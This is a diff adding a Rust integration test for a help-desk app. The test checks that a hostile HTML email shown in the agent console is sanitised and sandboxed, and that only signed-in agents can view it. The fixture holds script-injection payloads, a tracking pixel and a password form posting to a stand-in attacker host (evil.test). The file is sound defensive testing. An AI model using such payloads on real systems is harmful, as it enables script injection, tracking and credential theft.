@@ -227,7 +227,8 @@ on_both!(
     nul_characters_are_refused,
     mail_admin,
     admin_people_tokens_and_webhooks,
-    admin_pages_are_for_admins_with_csrf
+    admin_pages_are_for_admins_with_csrf,
+    original_email_formatting
 );
 
 // The customer portal: sign-in by link, customer sessions, its pages and forms.
@@ -2820,8 +2821,15 @@ async fn authorisation_matrix(app: TestApp) {
         ),
         ("GET", "/healthz", None, public),
         ("GET", "/readyz", None, public),
+        // The console signs in by session cookie only: every token is sent to sign in
+        // (sessions are checked in `original_email_formatting`).
+        ("GET", "/console/mail/{id}/html", None, ["login"; 8]),
     ];
     let ada = recourse_domain::CustomerId(a_id);
+    let no_redirect = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
     let mut failures = Vec::new();
     for (method, template, body, expected) in &rows {
         for ((who, token), want) in principals.iter().zip(expected.iter()) {
@@ -2859,11 +2867,21 @@ async fn authorisation_matrix(app: TestApp) {
                 .replace("{id}", &t.id.0.to_string())
                 .replace("{junior}", &junior_id.to_string())
                 .replace("{customer}", &a_id.to_string());
-            let (status, resp) = app.call(method, &path, token, body.clone()).await;
+            let (status, resp) = if template.starts_with("/console/") {
+                // Console pages send strangers to sign in; the redirect is the answer.
+                let mut req = no_redirect.get(format!("{}{path}", app.base));
+                if !token.is_empty() {
+                    req = req.bearer_auth(token);
+                }
+                (req.send().await.unwrap().status(), Value::Null)
+            } else {
+                app.call(method, &path, token, body.clone()).await
+            };
             let got = match status.as_u16() {
                 401 => "401",
                 403 => "403",
                 404 => "404",
+                303 => "login",
                 s if s < 300 || s == 409 || s == 422 => "ok",
                 _ => "other",
             };
@@ -3699,4 +3717,278 @@ async fn admin_pages_are_for_admins_with_csrf(app: TestApp) {
             .is_none(),
         "nothing saved"
     );
+}
+
+/// A cookie for a session of `principal`, made straight in the store (how the console
+/// and the portal sign people in is tested elsewhere).
+async fn session_cookie(app: &TestApp, principal: Principal) -> String {
+    let secret = auth::new_secret("rcs");
+    app.store
+        .create_session(recourse_store::NewSession {
+            id_hash: auth::sha256_hex(&secret),
+            principal,
+            csrf_token: auth::new_secret("csrf"),
+            now: recourse_web::now(),
+            expires_at: Millis(recourse_web::now().0 + 3_600_000),
+        })
+        .await
+        .unwrap();
+    format!("{}={secret}", auth::SESSION_COOKIE)
+}
+
+/// A hostile HTML email through the real mail pipeline: the ticket page offers its
+/// formatting in a sandboxed frame, and the frame's page keeps the words, the safe
+/// link and the picture sent inside it while nothing that runs, submits, frames or
+/// loads from elsewhere survives. Only signed-in agents get it.
+async fn original_email_formatting(app: TestApp) {
+    let pipeline = recourse_mail::Pipeline::new(
+        app.store.clone(),
+        Arc::new(recourse_mail::MailConfig {
+            domain: "desk.test".into(),
+            from: "support@desk.test".into(),
+            ..recourse_mail::MailConfig::default()
+        }),
+    );
+    let deliver = async |raw: String| {
+        let (inbound, state) = pipeline
+            .deliver(recourse_mail::Incoming {
+                source: "smtp",
+                envelope_from: Some("ada@example.com".into()),
+                envelope_to: vec!["support@desk.test".into()],
+                raw: raw.into_bytes(),
+            })
+            .await
+            .unwrap();
+        assert!(
+            matches!(
+                state,
+                Some(recourse_store::MailState::Ticket | recourse_store::MailState::Threaded)
+            ),
+            "{inbound}: {state:?}"
+        );
+        let origin = app.store.inbound_mail_origin(inbound).await.unwrap();
+        (inbound, origin.ticket_id.unwrap().0)
+    };
+    let hostile_html = r#"<html><head><title>Order</title><style>body{background:url(http://evil.test/bg)}</style>
+<script>window.parent.__pwned = 1</script><link rel="stylesheet" href="http://evil.test/c.css"></head>
+<body onload="alert(1)"><p onclick="alert(2)">My <b>kettle</b> arrived <i>broken</i>.</p>
+<img src="http://evil.test/track.gif?u=ada" onerror="alert(3)" alt="tracker">
+<img src="cid:photo1@ada">
+<iframe src="http://evil.test/frame">inside the frame</iframe>
+<form action="http://evil.test/steal"><input name="password"><button>Send</button></form>
+<a href="javascript:alert(4)">click me</a>
+<div style="width:expression(alert(5))">old ie</div>
+<div style="background:url(http://evil.test/e.png)">background</div>
+<p>The order is <a href="https://shop.example/orders/42">number 42</a>.</p>
+</body></html>"#;
+    let raw = format!(
+        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Broken kettle\r\n\
+         Message-ID: <kettle-1@example.com>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
+         --rel\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
+         --alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nMy kettle arrived broken.\r\n\
+         --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{hostile_html}\r\n--alt--\r\n\
+         --rel\r\nContent-Type: image/png\r\nContent-ID: <photo1@ada>\r\n\
+         Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--rel--\r\n"
+    );
+    let (inbound, ticket) = deliver(raw).await;
+    // A reply in plain text on the same ticket has no formatting to offer.
+    let (plain_inbound, plain_ticket) = deliver(
+        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Re: Broken kettle\r\n\
+         Message-ID: <kettle-2@example.com>\r\nIn-Reply-To: <kettle-1@example.com>\r\n\r\n\
+         Any news? <b>This is not markup.</b>\r\n"
+            .into(),
+    )
+    .await;
+    assert_eq!(plain_ticket, ticket, "the reply threads onto the ticket");
+    // Abuse stays hidden: its formatting is not a way around the mask.
+    let (rude_inbound, rude_ticket) = deliver(
+        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Refund\r\n\
+         Message-ID: <rude-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
+         <p>You are a useless idiot and so is your manager.</p>\r\n"
+            .into(),
+    )
+    .await;
+
+    let (agent_id, agent_token) = app
+        .agent("eli@example.com", Role::Agent, Experience::Junior)
+        .await;
+    let agent = session_cookie(&app, Principal::Agent(recourse_domain::AgentId(agent_id))).await;
+    let ada = app
+        .store
+        .upsert_customer(
+            &EmailAddress::parse("ada@example.com").unwrap(),
+            None,
+            Millis(1),
+        )
+        .await
+        .unwrap();
+    let ada = session_cookie(&app, Principal::Customer(ada.id)).await;
+    let bo = app
+        .store
+        .upsert_customer(
+            &EmailAddress::parse("bo@example.com").unwrap(),
+            None,
+            Millis(1),
+        )
+        .await
+        .unwrap();
+    let bo = session_cookie(&app, Principal::Customer(bo.id)).await;
+    let http = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let get = async |cookie: Option<&str>, bearer: Option<&str>, path: &str| {
+        let mut req = http.get(format!("{}{path}", app.base));
+        if let Some(c) = cookie {
+            req = req.header("cookie", c);
+        }
+        if let Some(b) = bearer {
+            req = req.bearer_auth(b);
+        }
+        let r = req.send().await.unwrap();
+        let status = r.status();
+        let headers = r.headers().clone();
+        (status, headers, r.text().await.unwrap())
+    };
+
+    // The ticket page offers the formatting of the HTML mail only.
+    let (status, _, page) = get(Some(&agent), None, &format!("/console/tickets/{ticket}")).await;
+    assert_eq!(status, StatusCode::OK);
+    let frame = format!(
+        r#"<iframe sandbox="allow-popups allow-popups-to-escape-sandbox" src="/console/mail/{inbound}/html""#
+    );
+    assert!(page.contains(&frame), "{page}");
+    assert!(page.contains("Show the original formatting"));
+    assert!(page.contains(r#"loading="lazy""#) && page.contains(r#"height="420""#));
+    assert!(!page.contains("allow-scripts") && !page.contains("allow-same-origin"));
+    assert!(
+        !page.contains(&format!("/console/mail/{plain_inbound}/html")),
+        "plain mail offers no formatting"
+    );
+    assert_eq!(page.matches("Show the original formatting").count(), 1);
+    let (_, _, rude_page) = get(
+        Some(&agent),
+        None,
+        &format!("/console/tickets/{rude_ticket}"),
+    )
+    .await;
+    assert!(rude_page.contains("This message was hidden"), "{rude_page}");
+    assert!(
+        !rude_page.contains("/console/mail/"),
+        "a masked message offers nothing"
+    );
+
+    // The frame's page: the words, the safe link and the inline picture; nothing else.
+    let path = format!("/console/mail/{inbound}/html");
+    let (status, headers, html) = get(Some(&agent), None, &path).await;
+    assert_eq!(status, StatusCode::OK, "{html}");
+    let csp = headers["content-security-policy"].to_str().unwrap();
+    for part in [
+        "sandbox allow-popups allow-popups-to-escape-sandbox;",
+        "default-src 'none'",
+        "img-src data:",
+        "style-src 'unsafe-inline'",
+        "frame-ancestors 'self'",
+        "form-action 'none'",
+    ] {
+        assert!(csp.contains(part), "{part} missing from {csp}");
+    }
+    assert!(!csp.contains("script-src") && !csp.contains("frame-ancestors 'none'"));
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    assert_eq!(headers["referrer-policy"], "no-referrer");
+    assert_eq!(headers["cache-control"], "private, no-store");
+    assert!(
+        headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/html")
+    );
+    let lower = html.to_ascii_lowercase();
+    for bad in [
+        "<script",
+        "__pwned",
+        "alert(",
+        "onload",
+        "onclick",
+        "onerror",
+        "<iframe",
+        "inside the frame",
+        "<form",
+        "<input",
+        "<button",
+        "javascript:",
+        "evil.test",
+        "expression",
+        "<link",
+        "cid:",
+    ] {
+        assert!(!lower.contains(bad), "{bad} survived:\n{html}");
+    }
+    assert!(
+        html.contains("My <b>kettle</b> arrived <i>broken</i>."),
+        "{html}"
+    );
+    assert!(
+        html.contains(r#"<a href="https://shop.example/orders/42" target="_blank" rel="noopener noreferrer">number 42</a>"#),
+        "{html}"
+    );
+    assert!(
+        html.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#),
+        "{html}"
+    );
+    assert!(
+        html.contains("Remote images are not loaded (1 left out)"),
+        "{html}"
+    );
+    assert!(html.contains("click me") && html.contains("old ie"));
+
+    // Plain mail and masked mail get a notice instead; unknown mail a 404 in frame form.
+    let (status, _, html) = get(
+        Some(&agent),
+        None,
+        &format!("/console/mail/{plain_inbound}/html"),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(
+        html.contains("came without formatting") && !html.contains("Any news"),
+        "{html}"
+    );
+    let (status, _, html) = get(
+        Some(&agent),
+        None,
+        &format!("/console/mail/{rude_inbound}/html"),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(
+        html.contains("hidden because it contains abuse") && !html.contains("idiot"),
+        "{html}"
+    );
+    let (status, headers, _) = get(Some(&agent), None, "/console/mail/999999/html").await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    assert!(
+        headers["content-security-policy"]
+            .to_str()
+            .unwrap()
+            .contains("frame-ancestors 'self'")
+    );
+    let (status, _, _) = get(Some(&agent), None, "/console/mail/abc/html").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+
+    // Nobody else: the sender, another customer, a stranger, and an API token (the
+    // console signs in by session only) are all sent to sign in, seeing nothing.
+    for (who, cookie, bearer) in [
+        ("the sender", Some(ada.as_str()), None),
+        ("another customer", Some(bo.as_str()), None),
+        ("a stranger", None, None),
+        ("an agent's API token", None, Some(agent_token.as_str())),
+    ] {
+        let (status, headers, body) = get(cookie, bearer, &path).await;
+        assert_eq!(status, StatusCode::SEE_OTHER, "{who}");
+        assert_eq!(headers["location"], "/login", "{who}");
+        assert!(!body.contains("kettle"), "{who}: {body}");
+    }
 }
